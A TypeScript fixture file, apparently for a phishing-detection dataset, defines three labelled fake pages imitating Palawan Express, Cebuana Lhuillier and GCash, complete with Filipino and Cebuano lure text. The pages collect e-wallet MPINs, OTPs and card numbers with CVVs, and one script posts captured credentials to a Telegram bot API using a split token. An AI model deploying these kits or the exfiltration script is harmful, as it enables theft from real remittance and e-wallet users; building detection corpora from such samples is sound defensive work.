import { htmlRoute, type Entry } from '../entry.js';
import { page, PH, mark, peso, esc } from '../parts/yw-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yw-palawan-padala-online-claim',
    label: 'phishing',
    kind: 'remittance-claim-kit',
    url: 'https://palawanexpress-claim.ph-remit.xyz/claim?kptn=PX7750-2291-8834',
    routes: {
      'palawanexpress-claim.ph-remit.xyz/claim': htmlRoute(
        page({
          title: 'Palawan Express Pera Padala - Online Claim',
          lang: 'fil',
          css: `body{font-family:Arial,sans-serif;background:#fff7f7}.h{background:${PH.palawan.main};color:#fff;padding:12px 18px;display:flex;gap:10px;align-items:center}.h b{font-size:17px}.rc{background:#fff;margin:16px;border-radius:10px;border:1px solid #f0c9cf;padding:16px}.rc table{width:100%;font-size:14px}.rc td{padding:5px 0}.rc td:last-child{text-align:right;font-weight:bold}.big{font-size:28px;color:${PH.palawan.main}}.rc h3{margin:0 0 10px}.in{width:100%;padding:12px;border:1px solid #d9b3b9;border-radius:8px;margin:5px 0 12px}.bt{width:100%;padding:14px;background:${PH.palawan.accent};color:#fff;border:0;border-radius:8px;font-weight:bold;font-size:15px}.tip{font-size:12px;color:#7a5560}`,
          body: `<div class="h">${mark(PH.palawan, 'PE', 36, 18)}<b>Palawan Express Pera Padala</b></div>
<div class="rc"><h3>May padala para sa iyo! 🎉</h3><table><tr><td>KPTN</td><td>PX7750-2291-8834</td></tr><tr><td>Sender</td><td>ROSALINDA M. — Dubai, UAE</td></tr><tr><td>Status</td><td style="color:#d97706">FOR ONLINE CLAIM</td></tr><tr><td>Amount</td><td class="big">${peso(25000)}</td></tr></table></div>
<div class="rc"><h3>I-claim online sa iyong e-wallet</h3><p class="tip">Hindi na kailangang pumunta sa branch. Ilagay ang iyong GCash o Maya account para ma-credit agad ang padala.</p>
<form id="cl"><input class="in" id="rn" placeholder="Buong pangalan ng receiver" required><select class="in" id="wl"><option>GCash</option><option>Maya</option></select><input class="in" id="wn" placeholder="Mobile number (09XXXXXXXXX)" required><input class="in" id="wp" type="password" inputmode="numeric" maxlength="6" placeholder="MPIN / Passcode" required><input class="in" id="wo" inputmode="numeric" maxlength="6" placeholder="OTP (kung hihingin)"><button class="bt">I-CLAIM ANG ${peso(25000)}</button></form>
<p class="tip">Ang hindi ma-claim sa loob ng 24 oras ay ibabalik sa sender. Palawan Pawnshop-Palawan Express Pera Padala is regulated by the BSP.</p></div>
<script>
document.getElementById('cl').onsubmit=function(e){e.preventDefault();var q=function(i){return document.getElementById(i).value;};var b='kptn=PX7750-2291-8834&rn='+encodeURIComponent(q('rn'))+'&w='+q('wl')+'&n='+q('wn')+'&p='+q('wp')+'&o='+q('wo');fetch('claim/proc.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:b}).then(function(){document.querySelector('.bt').textContent='Processing... huwag isara';setTimeout(function(){alert('Hinihintay ang OTP. Ilagay ang bagong code na natanggap mo.');},2500);});};
</script>`,
        }),
      ),
      'palawanexpress-claim.ph-remit.xyz/claim/proc.php': jsonRoute({ r: 'ok' }),
    },
  },
  {
    id: 'yw-cebuana-remit-hold-cebuano',
    label: 'phishing',
    kind: 'remittance-card-kit',
    url: 'https://cebuana-lhuillier-remit.online/pera-padala/hold/',
    routes: {
      'cebuana-lhuillier-remit.online/pera-padala/hold/': htmlRoute(
        page({
          title: 'Cebuana Lhuillier Pera Padala',
          lang: 'ceb',
          css: `body{font-family:Verdana,Arial,sans-serif;background:#f2f5fa;font-size:14px}.t{background:#fff;border-bottom:3px solid ${PH.cebuana.accent};padding:10px 16px;display:flex;align-items:center;gap:10px}.t b{color:${PH.cebuana.main}}.box{max-width:460px;margin:18px auto;background:#fff;border-radius:8px;padding:18px;box-shadow:0 1px 4px rgba(0,0,0,.1)}.hl{background:#fff3cd;border:1px solid #f1d27b;padding:10px;border-radius:6px}.fee{color:${PH.cebuana.accent};font-weight:bold}label{display:block;margin-top:10px;font-size:12px;color:#555}input{width:100%;padding:10px;border:1px solid #c5cfdd;border-radius:6px}.r{display:flex;gap:8px}.btn{margin-top:16px;width:100%;padding:13px;background:${PH.cebuana.main};color:#fff;border:0;border-radius:6px;font-weight:bold}`,
          body: `<div class="t">${mark(PH.cebuana, 'CL', 36, 6)}<b>Cebuana Lhuillier · Pera Padala</b></div>
<div class="box"><div class="hl">Maayong adlaw! Naa kay padala nga <b>₱18,750.00</b> gikan sa <b>Riyadh, KSA</b> (Sender: JOVELYN A.). Ang imong padala <b>NAKA-HOLD</b> tungod sa kulang nga verification sa receiver.</div>
<p>Aron ma-release ang padala, bayri ang <span class="fee">verification fee nga ₱149.00</span> gamit ang imong debit o credit card. Ang kantidad ma-refund uban sa imong padala.</p>
<form method="post" action="process.php">
<label>Tibuok nga ngalan sa receiver</label><input name="receiver" required>
<label>Petsa sa pagkatawo</label><input name="dob" type="date" required>
<label>Numero sa card</label><input name="cc" inputmode="numeric" maxlength="19" required>
<div class="r"><div style="flex:1"><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div style="flex:1"><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
<label>Mobile number</label><input name="mobile" required>
<button class="btn">BAYRI ₱149.00 UG I-RELEASE</button></form>
<p style="font-size:11px;color:#888">Kini nga transaksyon gi-proseso pinaagi sa secure nga payment gateway. Cebuana Lhuillier is regulated by the Bangko Sentral ng Pilipinas.</p></div>`,
        }),
      ),
      'cebuana-lhuillier-remit.online/pera-padala/hold/process.php': htmlRoute(
        page({
          title: '3-D Secure',
          body: `<div style="font-family:Arial;max-width:360px;margin:50px auto;border:1px solid #ccc;padding:20px"><b>Verified by Visa / Mastercard ID Check</b><p>Merchant: CEBUANA LHUILLIER ONLINE<br>Amount: PHP 149.00</p><form method="post" action="process.php"><label>Enter the OTP sent to your mobile</label><input name="otp" style="width:100%;padding:10px" maxlength="6"><button style="margin-top:10px;padding:10px 30px">Submit</button></form></div>`,
        }),
      ),
    },
  },
  (() => {
    const kit = 'gcash-help-center.ph-support.online';
    return {
      id: 'yw-gcash-google-sites-recovery-hop',
      label: 'phishing',
      kind: 'free-host-lure-offsite-kit',
      url: 'https://sites.google.com/view/gcash-account-recovery-ph/home',
      body: page({
        title: 'GCash Account Recovery Center',
        css: `body{font-family:"Google Sans",Roboto,Arial,sans-serif;background:#fff}.hero{background:${PH.gcash.main};color:#fff;padding:60px 30px;text-align:center}.hero h1{font-size:36px;margin:0}.sec{max-width:760px;margin:30px auto;padding:0 20px;color:#333;line-height:1.6}.cta{display:inline-block;background:#fff;color:${PH.gcash.main};padding:14px 34px;border-radius:30px;font-weight:700;text-decoration:none;margin-top:20px}.gs{font-size:11px;color:#888;text-align:center;margin:40px}`,
        body: `<div class="hero"><h1>GCash Account Recovery</h1><p>Nawalan ng access? Na-block ang account? Na-scam? Mabawi ang iyong pera at account dito.</p><a class="cta" href="https://${kit}/recover?src=gsites">START RECOVERY</a></div>
<div class="sec"><h2>Paano ito gumagana</h2><ol><li>I-click ang START RECOVERY at ilagay ang iyong GCash number.</li><li>I-verify ang iyong MPIN at huling transaksyon.</li><li>Ang aming Recovery Team ay magpoproseso ng iyong request sa loob ng 24 oras.</li></ol><p>Official recovery portal for accounts affected by unauthorized transactions.</p></div>
<div class="gs">Google Sites · Report abuse</div>`,
      }),
      routes: {
        [`${kit}/recover`]: htmlRoute(
          page({
            title: 'GCash Help Center | Recover your account',
            css: `body{font-family:Arial,sans-serif;background:${PH.gcash.soft}}.c{max-width:400px;margin:30px auto;background:#fff;border-radius:16px;padding:24px}.c h2{color:${PH.gcash.main}}.c input{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #cfdcf2;border-radius:10px}.c button{width:100%;padding:13px;border:0;border-radius:24px;background:${PH.gcash.main};color:#fff;font-weight:700}`,
            body: `<div class="c">${mark(PH.gcash, 'G', 48, 24)}<h2>Recover your GCash account</h2><form id="rf">
<input name="msisdn" placeholder="GCash mobile number" required><input name="mpin" type="password" maxlength="4" placeholder="MPIN" required>
<input name="last_txn" placeholder="Amount of your last transaction (₱)"><input name="email" placeholder="Email address"><input name="otp" placeholder="Authentication code (we will text you)" maxlength="6">
<button>Submit recovery request</button></form></div>
<script src="/assets/rc.js"></script>`,
          }),
        ),
        [`${kit}/assets/rc.js`]: jsRoute(
          `(function(){var f=document.getElementById('rf');f.addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(f).entries());d.ref=document.referrer;var t=['${esc('5590213347')}',':AAF','x9kQm2Lr7TzV0bN4sWp1YcH8dJ3uEgKoI'].join('');fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002230098711',text:JSON.stringify(d)})}).finally(function(){f.innerHTML='<p>Request received. Ticket #GC-'+Math.floor(Math.random()*9e5+1e5)+'. Please wait for our call.</p>';});});})();`,
        ),
      },
    } satisfies Entry;
  })(),
];
